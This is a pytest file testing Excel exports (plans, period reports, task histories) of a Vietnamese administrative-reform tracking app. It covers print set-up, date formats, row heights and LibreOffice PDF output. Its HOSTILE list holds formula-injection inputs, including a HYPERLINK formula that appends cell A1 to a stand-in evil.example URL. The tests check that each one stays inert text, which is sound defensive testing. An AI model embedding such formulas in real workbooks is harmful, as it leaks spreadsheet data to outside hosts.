"""The three workbooks the product writes (plan, period report, task history): types, formats,
print set-up, the one escaping rule, and what LibreOffice Calc prints of them.

The LibreOffice test converts each workbook headless to PDF (what a user printing it gets) and
reads the PDF back: every line of a long wrapped task text is there (a row too short for its
text clips it), and the page count stays sane.
"""

from __future__ import annotations

import datetime
import io
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from plans.xlsx import cell_text_safe, plan_xlsx, text_lines
from tests.factories import CriterionFactory, periods, plan_task
from workflow import services
from workflow.history.exports import history_xlsx
from workflow.history.selectors import Entry
from workflow.models import PeriodTask
from workflow.reports import selectors
from workflow.reports.selectors import LeadResult, ReportRow
from workflow.reports.xlsx import period_report_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A3)",
    "\tmở đầu bằng tab",
    "\rmở đầu bằng CR",
]
# A long task text: twelve numbered lines, each a sentence that wraps in its column.
LONG_LINES = [
    f"Dòng {n:02d}: rà soát, đánh giá và công khai thủ tục hành chính thuộc thẩm quyền giải quyết của Sở"
    for n in range(1, 13)
]
LONG_TASK = "\n".join(LONG_LINES)


@pytest.fixture
def world(units: dict[str, Any], personas: dict[str, Any]) -> dict[str, Any]:
    criterion = CriterionFactory()
    long_task = plan_task(criterion, lead=[units["QLCN"]], partners=[units["QLTM"]], task=LONG_TASK)
    hostile = [plan_task(criterion, lead=[units["QLCN"]], task=text) for text in HOSTILE]
    plan = criterion.section.appendix.plan
    period = periods(plan)["Q1"]
    services.period_launch(period=period, actor=personas["office_reviewer"], plan_tasks=[long_task, *hostile])
    return {"plan": plan, "period": period, "run": PeriodTask.objects.get(plan_task=long_task)}


def period_workbook(world: dict[str, Any]) -> bytes:
    report = selectors.period_report(world["period"], today=datetime.date(2024, 3, 12))
    rows = [r for a in report.appendices for r in a.rows if isinstance(r, ReportRow)]
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        row.results = [LeadResult(unit="Phòng Quản lý công nghiệp", text=text)]
    rows[0].completed = datetime.date(2024, 3, 5)
    return period_report_xlsx(report)


def history_workbook() -> bytes:
    entries = [
        Entry(
            seq=n,
            when=datetime.datetime(2024, 3, 1, 9, n),
            actor_name="Nguyễn Văn An",
            actor_unit="Phòng Quản lý công nghiệp",
            actor_role="Chuyên viên",
            action="submit",
            label="Gửi kết quả",
            step="Chủ trì thực hiện",
            reason=text,
            details=LONG_TASK if n == 0 else "",
        )
        for n, text in enumerate(["", *HOSTILE])
    ]
    return history_xlsx(entries, title="Lịch sử xử lý – Rà soát thủ tục hành chính – kỳ Quý I/2024")


@pytest.fixture
def workbooks(world: dict[str, Any]) -> dict[str, bytes]:
    return {"plan": plan_xlsx(world["plan"]), "period": period_workbook(world), "history": history_workbook()}


def every_cell(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# --- escaping: one rule, every workbook ----------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["plan", "period", "history"])
def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(
    workbooks: dict[str, bytes], name: str
) -> None:
    data = workbooks[name]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere
    found = {}
    for cell in every_cell(data):
        if isinstance(cell.value, str) and cell.value.lstrip("\t\r").startswith(("=", "+", "-", "@", "mở")):
            found[cell.value.replace("_x000D_", "\r")] = cell
    for text in HOSTILE:
        cell = next(c for value, c in found.items() if value == text or value.endswith(text))
        assert cell.data_type == "s"
        assert cell.quotePrefix is True  # what typing '=… in Excel stores: shown and kept as text


def test_the_escaping_rule_leaves_ordinary_text_numbers_and_dates_alone() -> None:
    from openpyxl import Workbook

    sheet = Workbook().active
    values = ("Rà soát", "Nhiệm vụ – quý I", 3, -2, datetime.date(2024, 3, 5), None, "a=b")
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(row=1, column=column, value=value)
        kind = cell.data_type
        cell_text_safe(cell)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, kind, False)
    cell = sheet.cell(row=2, column=1, value="=1+1")
    assert cell_text_safe(cell).data_type == "s"


# --- types, formats, print set-up ------------------------------------------------------------------


@pytest.mark.django_db
def test_period_workbook_has_real_dates_and_numeric_shares(workbooks: dict[str, bytes]) -> None:
    book = load_workbook(io.BytesIO(workbooks["period"]))
    for sheet in book.worksheets:
        assert sheet["A1"].value.startswith("Báo cáo kết quả thực hiện Kế hoạch CCHC năm 2024")
        dates = {sheet[f"A{r}"].value: sheet[f"B{r}"] for r in (2, 3, 4)}
        assert set(dates) == {"Hạn tổng hợp nội bộ", "Ngày chốt số liệu", "Số liệu tính đến ngày"}
        assert all(isinstance(c.value, datetime.datetime) for c in dates.values())
        assert {c.number_format for c in dates.values()} == {"dd/mm/yyyy"}
        assert dates["Số liệu tính đến ngày"].value == datetime.datetime(2024, 3, 12)
        assert dates["Ngày chốt số liệu"].value == datetime.datetime(2024, 3, 14)
    detail = book["Chi tiết"]
    completed = [row[9] for row in detail.iter_rows(min_row=7) if isinstance(row[9].value, datetime.datetime)]
    assert [(c.value, c.number_format) for c in completed] == [(datetime.datetime(2024, 3, 5), "dd/mm/yyyy")]
    summary = book["Tổng hợp"]
    shares = list(summary[summary.max_row])[1:]
    assert all(isinstance(c.value, (int, float)) and c.number_format == "0.0%" for c in shares)
    counts = list(summary[summary.max_row - 1])[1:]
    assert all(isinstance(c.value, int) for c in counts)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["plan", "period", "history"])
def test_every_sheet_prints_a4_landscape_fitted_to_the_width_with_the_header_repeated(
    workbooks: dict[str, bytes], name: str
) -> None:
    book = load_workbook(io.BytesIO(workbooks[name]))
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, str(setup.paperSize)) == ("landscape", "9")  # 9: A4
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
        header = int(sheet.print_title_rows.split(":")[0].strip("$"))
        assert sheet.freeze_panes == f"A{header + 1}"
        assert sheet.cell(row=header, column=1).value in (
            "TT",
            "Đơn vị chủ trì",
            "Phụ lục",
            "Số thứ tự",
            "STT",
        ) or (sheet.cell(row=header, column=1).font.b)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["plan", "period", "history"])
def test_row_heights_fit_the_wrapped_text(workbooks: dict[str, bytes], name: str) -> None:
    book = load_workbook(io.BytesIO(workbooks[name]))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value != LONG_TASK and not (
                    isinstance(cell.value, str) and LONG_LINES[0] in cell.value
                ):
                    continue
                width = sheet.column_dimensions[cell.column_letter].width
                lines = text_lines(cell.value, width)
                assert lines >= len(LONG_LINES)
                assert sheet.row_dimensions[cell.row].height >= lines * 15
                checked += 1
    assert checked >= 1


def test_line_estimate_counts_wrapped_words_and_paragraphs() -> None:
    assert text_lines("", 20) == 1
    assert text_lines("một hai ba", 40) == 1
    assert text_lines("một\nhai\nba", 40) == 3
    assert text_lines(" ".join(["nhiệm"] * 40), 20) >= 40 * 6 // 17
    assert text_lines("x" * 100, 11) >= 10


# --- what LibreOffice prints ---------------------------------------------------------------------


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("LibreOffice (soffice) is not installed: the printed workbook cannot be checked")
    program = Path(found).resolve().parent
    if not (program / "libscfiltlo.so").exists():  # the spreadsheet import filters
        pytest.skip("LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
    return found


def print_with_libreoffice(data: bytes, tmp_path: Path, name: str) -> bytes:
    source = tmp_path / f"{name}.xlsx"
    source.write_bytes(data)
    profile = tmp_path / "profile"
    subprocess.run(
        [
            soffice(),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (tmp_path / f"{name}.pdf").read_bytes()


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "max_pages"), [("plan", 3), ("period", 8), ("history", 3)])
def test_libreoffice_prints_every_line_of_a_long_wrapped_text(
    workbooks: dict[str, bytes], tmp_path: Path, name: str, max_pages: int
) -> None:
    printed = PdfReader(io.BytesIO(print_with_libreoffice(workbooks[name], tmp_path, name)))
    text = " ".join(" ".join(page.extract_text() for page in printed.pages).split())
    # a row too short for its text shows only its first lines (Calc clips the cell)
    missing = [line[:9] for line in LONG_LINES if " ".join(line.split()) not in text]
    assert missing == []
    assert 1 <= len(printed.pages) <= max_pages
    for hostile in ("+1+2", "-2+3", "@SUM(A1:A3)"):
        assert hostile in text  # printed as typed, not computed


@pytest.mark.django_db
def test_plan_workbook_title_block_has_the_plans_number_and_adoption_date_and_still_reads_back(
    world: dict[str, Any],
) -> None:
    from plans.models import Plan
    from plans.parsing.xlsx import parse_xlsx
    from plans.services import unit_directory

    Plan.objects.filter(pk=world["plan"].pk).update(number="123", adopted_on=datetime.date(2024, 1, 5))
    world["plan"].refresh_from_db()
    data = plan_xlsx(world["plan"])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet["A2"].value, sheet["B2"].value] == ["Số, ký hiệu", "123/KH-SCT"]
    assert sheet["A3"].value == "Ngày ban hành"
    assert (sheet["B3"].value, sheet["B3"].number_format) == (datetime.datetime(2024, 1, 5), "dd/mm/yyyy")
    assert sheet.print_title_rows == "$6:$6" and sheet["A6"].value == "TT"
    parsed = parse_xlsx(data, unit_directory())
    tasks = [t.task for a in parsed.appendices for s in a.sections for c in s.criteria for t in c.tasks]
    # the texts read back as the reader folds spaces (a line break or a leading tab is a space)
    assert {" ".join(t.split()) for t in tasks} == {" ".join(t.split()) for t in [LONG_TASK, *HOSTILE]}
